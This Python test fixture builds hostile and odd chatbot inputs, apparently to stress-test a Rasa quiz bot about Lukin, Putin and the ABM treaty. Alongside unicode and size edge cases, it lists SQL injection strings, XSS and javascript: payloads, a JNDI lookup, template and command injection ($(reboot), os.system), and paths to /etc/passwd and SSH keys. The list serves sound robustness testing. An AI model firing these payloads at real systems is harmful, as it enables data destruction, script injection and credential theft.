"""Hostile and odd learner messages: hand-written ones per category, then generated mixes.

`hostile_inputs()` returns (label, message) pairs; the label names the category in test ids.
"""
import random

HAND_WRITTEN = {
    "empty": ["", " ", "   ", "\n", "\t", "\r\n", " \n\t ", "\u00a0", "\u3000", "\u2028"],
    "huge": [
        "a" * 100_000,
        "who is Lukin? " * 7_200,  # about 100 KB of a real question
        "lukin " * 17_000,
        "😀" * 25_000,  # 100 KB of 4-byte characters
        ("<b>" * 5_000) + "who is Hadley?",
        "x" * 20_000 + " who said the treaty is the cornerstone?",
    ],
    "control": ["\x00", "\x00who is Lukin?", "who\x00is\x00Lukin", "\x07\x08\x1b[31mred\x1b[0m", "\x1b]0;title\x07",
                "who is\u200b Lukin?", "\ufeffwho is Lukin?", "\u202ewho is Lukin?", "\ud800 lone surrogate", "\ufffd\ufffd",
                "who is L\u0301u\u0301k\u0301i\u0301n\u0301?", "\x7f\x80\x9f", "line1\rline2", "tab\tseparated\tquestion",
                "\u0000\u0001\u0002\u0003"],
    "emoji": ["😀", "🚀🛡️", "who is 🇷🇺 Lukin?", "🤔 what did Putin say? 🤔", "👍", "❤️❤️❤️", "🧑‍🚀👨‍👩‍👧‍👦",
              "quiz me 🎲", "Z̷̢̛a̶l̸g̵o̴ t̶e̸x̷t̵", "ＷＨＯ ＩＳ ＬＵＫＩＮ？", "𝔴𝔥𝔬 𝔦𝔰 𝔏𝔲𝔨𝔦𝔫", "ⓦⓗⓞ ⓘⓢ ⓛⓤⓚⓘⓝ"],
    "right-to-left": ["من هو لوكين؟", "מי זה לוקין?", "ما هي معاهدة الحد من الصواريخ؟", "who is لوكين?",
                      "\u202bwho is Lukin?\u202c", "שלום", "سلام عليكم", "اختبرني"],
    "other-languages": ["кто такой Лукин?", "Что сказал Путин?", "договор по ПРО", "wer ist Lukin?",
                        "qui est Lukin ?", "¿quién es Lukin?", "ルキンとは誰ですか", "卢金是谁？", "लुकिन कौन है?",
                        "Lukin kimdir?", "chi è Lukin?", "ποιος είναι ο Λούκιν;", "누가 루킨이에요?", "Lukin là ai?",
                        "Kto to jest Łukin?"],
    "fts": ['NEAR(lukin putin)', '"unterminated', 'lukin OR *', 'lukin AND NOT putin', '^lukin', 'text:lukin',
            '*', '"', '(((', ')))', 'who said "NEAR("', 'lukin*', '-lukin', '+treaty', 'a NEAR/3 b', '{text}: abm',
            'who said "" OR ""', 'MATCH', 'who said *:*', 'who said """"""'],
    "sql": ["'; drop table quotes; --", "1 OR 1=1", "Robert'); DROP TABLE people;--", "' union select * from sqlite_master --",
            "who is ' OR '1'='1", "who said '; delete from quotes; --", "lukin\"; attach database '/tmp/x' as x; --",
            "select * from people", "PRAGMA writable_schema=1", "who is %' --", "'); VACUUM; --", "who is `people`",
            "0x27", "who is \\'lukin\\'", "; .shell ls"],
    "html": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>who is lukin</b>",
             "<iframe src=javascript:alert(1)>", "&lt;script&gt;", "<svg onload=alert(1)>", "who is <i>Lukin</i>?",
             "<a href='javascript:alert(1)'>click</a>", "<!-- comment -->", "<style>body{display:none}</style>",
             "</div></div></body>", "<math><mi xlink:href=javascript:alert(1)>", "<<script>script>alert(1)<</script>/script>",
             "\"><script>alert(1)</script>", "who said <script>?"],
    "markdown": ["[click me](javascript:alert(1))", "![x](javascript:alert(1))", "[who is lukin](http://evil.example)",
                 "**who is lukin**", "# who is Lukin", "`who is Lukin`", "```\nwho is Lukin\n```", "> who is Lukin",
                 "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "<javascript:alert(1)>"],
    "rasa-commands": ["/greet", '/who_is{"person": "lukin"}', '/quiz_answer{"option": "z"}', "/nonexistent",
                      "/restart", "/who_is{bad json", '/start_quiz{"number": "1000000"}', '/start_quiz{"number": "-5"}',
                      '/quiz_answer{"option": "<script>"}', "/session_start", "/action_listen",
                      '/who_is{"person": "\'; drop table people; --"}', "/", "//", "/ /", "/who_is{}",
                      '/start_quiz{"retry": "missed"}', '/inform_person{"person": "nobody"}', "/stop_quiz",
                      '/who_is{"person": ' + '"a"' * 1000 + '}', "/affirm", "/deny", "/EXTERNAL_dry_run",
                      '/who_is{"person": null}', '/ask_fact{"topic": ["abm", "nmd"]}'],
    "numbers": ["0", "-1", "1e308", "NaN", "99999999999999999999999999", "3.14159", "1/0", "42", "2001", "1972",
                "$60 billion", "-0", "∞", "0x7fffffff"],
    "unknown-names": ["who is John Smith?", "who is Napoleon?", "what did Obama say?", "who is Gorbachev?",
                      "what did Yeltsin say about the treaty?", "who is Xi Jinping", "quiz me on Churchill",
                      "who is Ivan Ivanovich Ivanov-Petrov?", "what does Germany's chancellor think?",
                      "who is the president of France?", "what did Reagan's star wars cost?", "who is Elvis",
                      "who said 'I have a dream'?", "who is nobody", "what did Santa say?"],
    "format-strings": ["%s%s%s%n", "{0}", "${jndi:ldap://example.com/a}", "{{7*7}}", "#{7*7}", "%(person)s",
                       "{person}", "$(reboot)", "`reboot`", "__import__('os').system('ls')"],
    "paths": ["../../etc/passwd", "C:\\Windows\\system32", "file:///etc/passwd", "/etc/passwd", "~/.ssh/id_rsa"],
}

TEMPLATES = ["who is {}?", "who said {}", "what did {} say?", "quiz me on {}", "how did {} react?",
             "tell me about {}", "{} vs russia", "source? {}"]


def hostile_inputs(generated: int = 60, seed: int = 2001) -> list[tuple[str, str]]:
    """Return the hand-written inputs plus `generated` template mixes of them (deterministic)."""
    cases = [(label, text) for label, texts in HAND_WRITTEN.items() for text in texts]
    rng = random.Random(seed)
    fragments = [text for label, texts in HAND_WRITTEN.items() if label != "huge" for text in texts]
    for _ in range(generated):
        cases.append(("generated", rng.choice(TEMPLATES).format(rng.choice(fragments))))
    return cases
